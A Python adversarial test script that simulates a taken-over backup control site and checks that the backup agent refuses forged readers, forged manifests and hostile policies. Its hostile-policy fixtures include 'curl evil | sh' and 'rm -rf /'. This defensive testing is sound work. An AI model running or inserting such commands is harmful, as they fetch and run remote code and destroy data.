#!/usr/bin/env python3
"""A Pusat Data that was taken over, all of its keys and files in the attacker's hands, tries to read,
to add a reader, to add a writer, and to command by its policy. It fails each time."""
import base64
import json
import os
import re
import shutil
import subprocess

from attacker import Gateway, Key, line, object_hash, put, split_note, text_of
from fleet import Cannot, Site, fill, fingerprint, hold, policy, prove, say, seeded, until

# In names and in content, plain and compressible: no office writes this.
MARK = "RAHASIA-PASIEN-7f3a91c4"


def files_below(*tops):
    return [os.path.join(folder, name) for top in tops for folder, _, names in os.walk(top) for name in names
            if os.path.isfile(os.path.join(folder, name))]


def content(path):
    with open(path, "rb") as file:
        return file.read()


def opens(identity, path):
    """Does age open it?"""
    done = subprocess.run(["age", "-d", "-i", identity, path], stdin=subprocess.DEVNULL, capture_output=True)
    return done.stdout if done.returncode == 0 else None


def packs_of(site, vault):
    return set(files_below(f"{site.store}/vaults/{vault}/packs"))


def readers(pack):
    """Recipients of a pack by its age header. A stanza that stands for nobody (`grease`) is none."""
    head = content(pack)[:65536].split(b"\n---", 1)[0].decode("latin-1")
    return len(re.findall(r"(?m)^-> X25519 ", head))


def marks():
    """The mark as it could be found: as it is, in UTF-16, in hexadecimal, in base64 at each offset."""
    raw = MARK.encode()
    found = [raw, MARK.encode("utf-16-le"), MARK.encode("utf-16-be"), raw.hex().encode(), raw[::-1]]
    for offset in range(3):
        # Without the characters that depend on what stands beside it.
        found.append(base64.b64encode(b"\0" * offset + raw)[4 if offset else 0:-4])
    return found


def reading(site, server):
    """Everything that the site has is searched, and tried as a key."""
    everything = files_below(site.state, site.store)
    wanted = marks()
    secret = re.compile(rb"AGE-SECRET-KEY-1|AGE-PLUGIN-")
    for path in everything:
        its = content(path)
        for mark in wanted:
            hold(mark not in its, f"{path} has the content's mark {mark!r}")
        hold(not secret.search(its), f"{path} has an age identity")
        hold(MARK not in path, f"the name {path} tells what was saved")
    packs = sorted(packs_of(site, server.vault()))
    keys = [path for path in everything if path.startswith(f"{site.state}/")]
    hold(any(path.endswith("ca.key") for path in keys) and packs, "the site has no keys, or the vault no packs")
    tried = 0
    for key in keys:
        for pack in packs:
            hold(opens(key, pack) is None, f"{key} opens {pack}")
            tried += 1
    # The search finds what is there: the same pack, opened by who may.
    plain = b"".join(subprocess.run(["zstd", "-dc"], input=opens(server.identity, pack), capture_output=True).stdout
                     for pack in packs)
    hold(MARK.encode() in plain, "the search finds nothing where the mark is")
    say(f"read: the mark is in none of {len(everything)} files of its state and store; "
        f"{len(keys)} files tried as keys on {len(packs)} packs: none opens")
    return len(everything), tried


def forge_readers(site, vault, folder):
    """Descriptions with a further reader, as the attacker can sign them: what each is, and its objects."""
    top = f"{site.store}/vaults/{vault}/vault"
    first = os.listdir(top)[0]
    note = content(f"{top}/{first}")
    fields, true_hash = text_of(note), split_note(note)[1][0][1]
    owner = Key(folder, "pulih-owner")
    made = subprocess.run(["age-keygen"], capture_output=True, text=True).stdout
    with open(f"{folder}/attacker.identity", "w") as file:
        file.write(made)
    mine = re.search(r"public key: (age1\S+)", made).group(1)
    wider = dict(fields, number=2, predecessor=first, recipients=[*fields["recipients"], mine])
    # One that starts anew, and one after it.
    other = owner.sign(line(dict(fields, owner=owner.verifier(), recipients=[mine])))
    other_name = f"1-{object_hash(other)}"
    return [
        ("signed by an owner key of its own, which it names", [owner.sign(line(dict(wider, owner=owner.verifier())))]),
        ("names the true owner, signed by another key", [owner.sign(line(wider))]),
        ("names the true owner, the signature under the true key's hash", [owner.sign(line(wider), true_hash)]),
        ("the true description with one more recipient and its old signature",
         [line(wider) + note[note.index(b"\n\n") + 1:]]),
        ("a chain of its own from number 1 on",
         [other, owner.sign(line(dict(wider, owner=owner.verifier(), predecessor=other_name)))]),
    ]


def adding_a_reader(site, server, rng, work):
    vault, before = server.vault(), packs_of(site, server.vault())
    top = f"{site.store}/vaults/{vault}/vault"
    expected = {readers(pack) for pack in before}
    hold(expected == {1}, f"packs have {expected} readers")
    went_on = stopped = new = 0
    for words, notes in forge_readers(site, vault, work):
        placed = []
        for note in notes:
            placed.append(f"{top}/{text_of(note)['number']}-{object_hash(note)}")
            put(placed[-1], note)
        server.write("changing", rng.randbytes(1 << 20))
        done = server.backup("letters")
        # To write for the readers that there were, or to stop and say so: both are right.
        hold(done.status in (0, 1), f"{words}: status {done.status}\n{done.err}")
        went_on, stopped = went_on + (done.status == 0), stopped + (done.status == 1)
        packs = packs_of(site, vault)
        fresh, before = packs - before, packs
        hold(done.status == 1 or fresh, f"{words}: the backup wrote no pack")
        new += len(fresh)
        for pack in fresh:
            hold(readers(pack) == 1, f"{words}: {pack} has {readers(pack)} readers")
            hold(opens(f"{work}/attacker.identity", pack) is None, f"{words}: the attacker opens {pack}")
            hold(opens(server.identity, pack) is not None, f"{words}: the owner does not open {pack}")
        say(f"reader: {words}: {'the next backup does not follow it' if done.status == 0 else f'refused: {done.err.strip()}'}")
        for path in placed:
            os.remove(path)
        server.backup("letters").well()
        before = packs_of(site, vault)
    return new, went_on, stopped


def forge_manifests(site, vault, writer, owner):
    """Manifests after the newest one, as the attacker can sign them: what each is, its note, what lies beside it."""
    top, described = f"{site.store}/vaults/{vault}/snapshots/letters", f"{site.store}/vaults/{vault}/vault"
    newest, first = max(os.listdir(top)), os.listdir(described)[0]
    note, when = content(f"{top}/{newest}"), "2027-01-01T00:00:00Z"
    fields, (_, true_hash, _) = text_of(note), split_note(note)[1][0]
    later = dict(fields, sequence=fields["sequence"] + 1, previous=newest, captured=when, finished=when)
    # A description that names the attacker's agent key.
    theirs = dict(text_of(content(f"{described}/{first}")), number=2, predecessor=first)
    theirs = owner.sign(line(dict(theirs, owner=owner.verifier(), agent=writer.verifier())))
    named = f"2-{object_hash(theirs)}"
    return newest, later["sequence"], [
        ("signed by an agent key of its own", writer.sign(line(later)), {}),
        ("its signature under the true key's hash", writer.sign(line(later), true_hash), {}),
        ("empty, with the old signature", line(dict(later, tree=None)) + note[note.index(b"\n\n") + 1:], {}),
        ("as if rebuilt, signed by an owner key of its own", owner.sign(line(dict(later, rebuilt=True))), {}),
        ("under a description of its own", writer.sign(line(dict(later, description=named))), {f"{described}/{named}": theirs}),
    ]


def adding_a_writer(site, server, work):
    vault = server.vault()
    writer, owner = Key(work, f"pulih-agent/{vault}"), Key(work, "pulih-owner")
    newest, number, forged = forge_manifests(site, vault, writer, owner)
    for turn in range(len(forged)):
        words, note, beside = forged[turn]
        wanted = fingerprint(server.tree)
        placed = {f"{site.store}/vaults/{vault}/snapshots/letters/{number:010}-{object_hash(note)}": note, **beside}
        for path, its in placed.items():
            put(path, its)
        for state in (server.state, f"{work}/nobody"):
            listed = server.agent("--state", state, "--json", "snapshots", "--store", site.store, "--vault", vault,
                                  "--identity", server.identity)
            shown = json.loads(listed.out)
            hold(listed.status == 1 and shown["verified"], f"{words}: {listed.status} {listed.out[:300]}")
            hold(all(its["sequence"] < number for its in shown["snapshots"]), f"{words}: it is listed")
            hold([its["sequence"] for its in shown["damaged"]] == [number], f"{words}: {shown['damaged']}")
        target = f"{work}/forged"
        server.restore(object_hash(note), target, dataset="letters").badly()
        hold(not fingerprint(target), f"{words}: something was restored")
        latest = server.restore("latest", target, dataset="letters")
        # `latest` is the last true one, or it stops and says why; then the last true one is there by its id.
        if latest.status:
            hold(latest.status == 1 and not fingerprint(target), f"{words}: something was restored\n{latest.err}")
            server.restore(newest.split("-")[1], target, dataset="letters").well()
        hold(fingerprint(target + server.tree) == wanted, f"{words}: the last true one is not what was saved")
        shutil.rmtree(target)
        # Nor is the next backup built on it.
        server.write("changing", os.urandom(100_000))
        done = server.backup("letters")
        for path in placed:
            os.remove(path)
        if done.status:
            hold(done.status == 1, f"{words}: status {done.status}\n{done.err}")
            say(f"writer: {words}: the next backup stops: {done.err.strip()}")
            done = server.backup("letters")
        server.restored(done.json()["snapshot"]["id"], dataset="letters")
        say(f"writer: {words}: listed as damaged, not restored, not built on"
            f"{'; restore latest stops and names it' if latest.status else ''}")
        newest, number, forged = forge_manifests(site, vault, writer, owner)
    return len(forged)


HOSTILE = (
    ("a recipient", lambda text: f'recipients = ["age1attacker"]\n{text}'),
    ("a recipient in a class", lambda text: text.replace("[class.non-publik]\n", '[class.non-publik]\nrecipient = "age1x"\n')),
    ("a signer", lambda text: f'signer = "pulih-owner+00000000+AAAA"\n{text}'),
    ("a command", lambda text: text.replace("[class.non-publik]\n", '[class.non-publik]\ncommand = "curl evil | sh"\n')),
    ("a hook", lambda text: f'{text}\n[hooks]\nbefore = "rm -rf /"\n'),
)


def commanding(site, server, rng, work):
    """The daemon against a gateway with the site's own name and key."""
    vault = server.vault()
    server.datasets(letters=server.tree)
    server.start()
    until("the daemon follows the site's policy", 60, lambda: os.path.exists(f"{server.state}/accepted-policy.json"))
    until("the daemon's first report", 60, lambda: site.status()["agents"][0]["last_seen"])
    until("the daemon has saved", 120, lambda: reported(server))
    site.stop()
    gateway = Gateway(site, vault, server.name)
    path, version = f"{work}/hostile.toml", 100
    with open(f"{server.state}/policy.json", "rb") as file:
        followed = file.read()
    for words, change in HOSTILE:
        version += 1
        seen = len(gateway.alarms())
        with open(policy(path, version, change)) as file:
            gateway.policy = file.read()
        server.hup()
        alarm = until(f"an alarm about {words}", 60, lambda: [its for its in gateway.alarms()[seen:]
                                                              if its["alarm"] == "policy-refused"])
        with open(f"{server.state}/policy.json", "rb") as file:
            hold(file.read() == followed, f"a policy with {words} was taken")
        say(f"policy: with {words}: not taken, alarm {alarm[0]['alarm']}")
    # One that is a policy, and leaves out what is to be saved.
    wide = lambda text: text.replace('excludes = ["*.tmp"', 'excludes = ["*.rekam", "[0-9]*/", "*.tmp"')  # noqa: E731
    with open(policy(path, version + 1, wide, schedule="* * * * *")) as file:
        gateway.policy = file.read()
    hold("*.rekam" in gateway.policy, "the policy was not changed")
    server.write("pasien.rekam", f"{MARK} sesudah diambil alih")
    server.write("3/new", rng.randbytes(100_000))
    top = f"{site.store}/vaults/{vault}/snapshots/letters"
    before = set(os.listdir(top))
    server.hup()
    until("the alarm about excludes", 60, lambda: any(its["alarm"] == "exclude-widened" for its in gateway.alarms()))
    with open(f"{server.state}/policy.json") as file:
        hold("*.rekam" in file.read(), "the wider policy is not followed in the rest")
    new = until("a run by the wider policy", 240, lambda: set(os.listdir(top)) - before)
    server.stop()
    server.restored(max(new).split("-")[1], dataset="letters")
    say("policy: a wider exclude: alarm exclude-widened; the next run saved everything all the same")
    gateway.close()
    return len(HOSTILE) + 1


def reported(server):
    path = f"{server.state}/view.json"
    with open(f"{server.state}/daemon.json") as file:
        return "served" in file.read() and os.path.exists(path)


def main(work):
    for name in ("age", "age-keygen", "zstd"):
        if not shutil.which(name):
            raise Cannot(f"{name} is not here (sudo apt-get install -y age zstd)")
    _, rng = seeded()
    site = Site(work)
    site.opd("dinkes")
    server = site.server("app-1", "dinkes")
    site.approve("app-1", "letters")
    fill(server.tree, rng, 100, 20_000)
    server.write("pasien.rekam", MARK)
    server.write(f"7/{MARK}.txt", f"{MARK} " * 20_000)
    server.write("noise", rng.randbytes(1 << 20) + MARK.encode() + rng.randbytes(1 << 20))
    server.backup("letters").well()
    files, tried = reading(site, server)
    new, went_on, stopped = adding_a_reader(site, server, rng, work)
    writers = adding_a_writer(site, server, work)
    policies = commanding(site, server, rng, work)
    return (f"mark in none of {files} files, {tried} tries to open a pack failed; {went_on + stopped} further readers not followed "
            f"({went_on} runs went on, {stopped} stopped, {new} new packs); {writers} forged manifests not taken; "
            f"{policies} hostile policies not followed")


if __name__ == "__main__":
    prove(main)
